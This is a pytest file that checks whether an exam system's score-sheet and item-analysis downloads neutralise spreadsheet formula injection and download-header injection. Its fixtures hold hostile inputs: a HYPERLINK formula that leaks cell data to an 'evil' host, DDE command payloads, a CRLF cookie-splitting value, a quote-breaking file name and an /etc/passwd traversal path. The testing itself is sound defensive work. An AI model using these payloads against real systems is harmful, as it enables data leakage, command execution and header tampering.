"""SEC-I2 (formula injection in CSV and xlsx exports) and SEC-I3 (header and file-name injection in
downloads), through the real downloads: HR's score sheet and the item-analysis report, each as CSV and
as xlsx. The writers' own rules are tried one by one in tests/question_bank/test_tabular.py."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from question_bank.models import Role, UnitLevel
from question_bank.reports import item_report, score_sheet
from question_bank.services import attempts

#: Text a spreadsheet would run, each starting with a trigger SEC-I2 names, plus commas, quotes and
#: line breaks that a CSV must quote (RFC 4180).
#: NUL is not among them: PostgreSQL stores no NUL in text, so no stored name can start with one (the CSV and
#: xlsx writers' handling of NUL is tried in tests/question_bank/test_tabular.py).
TRIGGERS = ['=HYPERLINK("http://evil/?d="&A2,"详情")', "@SUM(A1:A9)", "-1+1|' /C calc'!A0", "\t=1+1", "+86 138 0000",
            "\r=1+1", "-@cmd"]
AWKWARD = '张三, "老张"\n第二行'


@pytest.fixture
def hostile(make, db, clock):
    """A sitting whose candidates' names, units and questions' stems start with each trigger; each
    candidate answers and submits. Returns (sitting, exam admin, HR officer)."""
    city = make.unit("甲市", level=UnitLevel.CITY)
    stems = [f"{t}题干" for t in TRIGGERS[:3]]
    for stem in stems:
        make.question(stem=stem, key=["B"])
    cadres = []
    for n, text in enumerate(TRIGGERS + [AWKWARD]):
        unit = make.unit(f"{TRIGGERS[n % len(TRIGGERS)]}科{n}", parent=city)
        cadre = make.cadre(unit=unit)
        # Set behind the service, which now refuses control characters in names and posts (F10-08):
        # such text stored before that rule, or by another system, must still leave the exports inert.
        cadre.display_name, cadre.current_post = text, TRIGGERS[(n + 1) % len(TRIGGERS)]
        cadres.append(cadre)
    sitting = make.sitting(make.paper([("single_choice", 3, "33.5", "行政处罚法")]), roster=cadres, shuffle=False,
                           title="=cmd|' /C calc'!A0 任前考试")
    sitting.org_unit = city
    db.commit()
    for cadre in cadres:
        attempt = attempts.start_attempt(db, clock, cadre, sitting, seed=1)
        attempts.save_response(db, clock, cadre, attempt.id, 1, ["B"], 1)
        attempts.submit_attempt(db, clock, cadre, attempt.id)
    db.commit()
    return sitting, make.user(Role.EXAM_ADMIN, unit=city), make.user(Role.HR, unit=city)


def _dangerous(text: str) -> bool:
    return bool(text) and (text[0] in "=+-@\t\r\0" or text.lstrip(" \u3000")[:1] in ("=", "+", "-", "@"))


def _check_csv(body: bytes, headers: tuple[str, ...], rows_expected: int, numeric: set[str]) -> None:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(headers)
    assert len(rows) == rows_expected + 1 and all(len(r) == len(headers) for r in rows), "re-parses to the same shape"
    for row in rows[1:]:
        for column, cell in zip(headers, row):
            assert not _dangerous(cell), f"{column}: {cell!r} would run in a spreadsheet"
            if column in numeric and cell:
                float(cell)  # a genuine number keeps no prefix


def _check_xlsx(body: bytes, headers: tuple[str, ...], rows_expected: int, numeric: set[str]) -> None:
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == list(headers) and len(rows) == rows_expected + 1
    for row in rows[1:]:
        for column, cell in zip(headers, row):
            assert cell.data_type != "f", f"{column}: a formula cell"
            if isinstance(cell.value, str) and _dangerous(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, f"{column}: {cell.value!r}"
            if column in numeric and cell.value is not None:
                assert cell.data_type == "n", f"{column}: {cell.value!r} is not a number cell"


def test_sec_i2_the_score_sheet_neutralises_every_trigger_in_csv_and_xlsx(hostile, client_factory):
    sitting, _, hr = hostile
    client = client_factory()
    client.login(hr.username)
    count = len(TRIGGERS) + 1
    csv_body = client.get(f"/reports/sittings/{sitting.id}/scores.csv").data
    _check_csv(csv_body, score_sheet.HEADERS, count, {score_sheet.COL_SCORE})
    text = csv_body.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "'@SUM(A1:A9)" in text and "'-1+1|" in text and "'+86 138 0000" in text
    assert '"张三, ""老张""\n第二行"' in text.replace("\r\n", "\n")
    _check_xlsx(client.get(f"/reports/sittings/{sitting.id}/scores.xlsx").data, score_sheet.HEADERS, count,
                {score_sheet.COL_SCORE})


def test_sec_i2_the_item_analysis_neutralises_question_text_in_csv_and_xlsx(hostile, client_factory):
    sitting, admin, _ = hostile
    client = client_factory()
    client.login(admin.username)
    numeric = {"序号", "作答人数", "场次数", "得分率"}
    body = client.get(f"/item-analysis/sittings/{sitting.id}/items.csv").data
    _check_csv(body, item_report.HEADERS, 3, numeric)
    assert "'=HYPERLINK(" in body.decode("utf-8-sig")
    _check_xlsx(client.get(f"/item-analysis/sittings/{sitting.id}/items.xlsx").data, item_report.HEADERS, 3, numeric)


HOSTILE_TITLES = ['a"; filename="evil.exe', "x\r\nSet-Cookie: a=b", "../../etc/passwd", "二〇二五年任前考试成绩",
                  "长" * 200]  # the longest title a sitting takes


@pytest.mark.parametrize("title", HOSTILE_TITLES)
@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_sec_i3_a_hostile_title_gives_a_well_formed_download_header(title, ext, hostile, client_factory, db):
    sitting, admin, hr = hostile
    sitting.title = title
    db.commit()
    client = client_factory()
    client.login(hr.username)
    response = client.get(f"/reports/sittings/{sitting.id}/scores.{ext}")
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert all("a=b" not in cookie for cookie in response.headers.getlist("Set-Cookie")), "header splitting"
    assert re.fullmatch(r'attachment; filename="?[A-Za-z0-9._-]+"?; filename\*=UTF-8\'\'[A-Za-z0-9%._~-]+',
                        disposition), disposition
    fallback = re.search(r'filename="?([^";]+)"?;', disposition).group(1)
    assert fallback == f"score-sheet-{sitting.id}.{ext}"  # the server's name, nothing of the title
    name = unquote(disposition.split("filename*=UTF-8''")[1])
    assert name.endswith(f".{ext}") and len(name) <= 100, name
    assert not set(name) & set("\"'/\\\r\n\0"), name  # no quotes, no path parts, no line breaks
    if title == "二〇二五年任前考试成绩":
        assert name == f"二〇二五年任前考试成绩-成绩汇总表.{ext}"
